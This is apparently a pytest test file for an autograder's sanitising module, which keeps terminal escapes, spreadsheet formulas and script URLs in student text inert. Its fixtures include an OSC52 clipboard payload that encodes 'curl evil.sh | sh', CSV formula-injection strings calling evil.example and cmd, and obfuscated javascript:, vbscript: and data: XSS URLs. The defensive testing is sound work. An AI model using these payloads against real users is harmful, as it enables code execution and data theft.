"""Inert: terminal escapes, spreadsheet formulas and script URLs from student text stay text."""

import pytest

from autograder.inert import csv_safe, dangerous_url, markdown_safe, strip_dangerous_urls, terminal_safe

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # writes "curl evil.sh | sh" into the clipboard
ERASE = "\r\x1b[2K"  # back to column 0 and erase the line: what follows fakes a row


def test_terminal_safe_shows_every_control_character():
    shown = terminal_safe(f"notes{OSC52}.txt{ERASE}alice 4/4\u202e")
    assert "\x1b" not in shown and "\x07" not in shown and "\r" not in shown and "\u202e" not in shown
    assert shown == r"notes\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07.txt\x0d\x1b[2Kalice 4/4\u202e"
    assert terminal_safe("a\nb") == r"a\x0ab" and terminal_safe("a\nb\x1b", keep_newlines=True) == "a\nb\\x1b"
    assert terminal_safe("plain words, 4 / 4 (ü, 猫)") == "plain words, 4 / 4 (ü, 猫)"


@pytest.mark.parametrize("cell, safe", [
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"), ("\t=1+1", "'\t=1+1"), ("\r=1", "'\r=1"),
    ("alice", "alice"), ("-3600", "-3600"), ("+1.5e3", "+1.5e3"), (4.0, 4.0), ("", ""),
])
def test_csv_safe_neutralizes_formulas_as_owasp_advises(cell, safe):
    assert csv_safe(cell) == safe


def test_markdown_safe_keeps_links_and_tags_as_text():
    import mistune

    html = mistune.create_markdown(plugins=["table"])(
        "| a |\n|---|\n| " + markdown_safe("[x](javascript:alert(1)) <script>x</script> a|b\nc") + " |\n")
    assert "<a" not in html and "<script" not in html and "[x](javascript:alert(1))" in html


@pytest.mark.parametrize("value, tag, attribute", [
    ("javascript:alert(1)", "a", "href"), ("JaVaScRiPt:alert(1)", "a", "href"),
    (" \tjava\nscript:alert(1)", "a", "href"), ("&#106;avascript:alert(1)", "a", "href"),
    ("java&#x09;script:alert(1)", "a", "href"), ("vbscript:msgbox", "a", "href"),
    ("data:text/html;base64,PHNjcmlwdD4=", "a", "href"), ("data:image/svg+xml,<svg onload=x>", "img", "src"),
    ("data:image/png;base64,AAAA", "a", "href"), ("x.png 1x, javascript:alert(1) 2x", "img", "srcset"),
])
def test_dangerous_urls_are_recognized_as_a_browser_reads_them(value, tag, attribute):
    assert dangerous_url(value, tag, attribute)


@pytest.mark.parametrize("value, tag", [("https://keras.io", "a"), ("#section", "a"), ("notes.html", "a"),
                                        ("data:image/png;base64,iVBORw0KGgo=", "img")])
def test_ordinary_urls_and_the_graders_figures_are_kept(value, tag):
    assert not dangerous_url(value, tag, "href" if tag == "a" else "src")


def test_strip_dangerous_urls_removes_the_attribute_and_keeps_the_rest_byte_for_byte():
    page = ("<html><head><script>var s = '<a href=\"javascript:ok\">';</script></head>\n<body>"
            "<p>text</p>\n<a href=\"javascript:alert(1)\" title=\"t\">click</a> "
            "<a href='https://keras.io'>keras</a><img src=\"data:image/png;base64,AAAA\"/>"
            "<iframe src=\"data:text/html,x\"></iframe><form action=\"vbscript:x\"></form></body></html>")
    stripped = strip_dangerous_urls(page)
    assert stripped == page.replace(' href="javascript:alert(1)"', "").replace(' src="data:text/html,x"', "").replace(
        ' action="vbscript:x"', "")
    assert strip_dangerous_urls("<p>nothing here</p>") == "<p>nothing here</p>"


def test_bytes_that_are_not_utf8_are_shown_not_written_raw():
    import os

    name = os.fsdecode(b"caf\xe9")
    assert terminal_safe(name) == r"caf\xe9" and csv_safe(name) == r"caf\xe9"
    assert csv_safe(os.fsdecode(b"=caf\xe9")) == r"'=caf\xe9"
    terminal_safe("\ud800").encode("utf-8")  # a lone surrogate from JSON is writable once shown
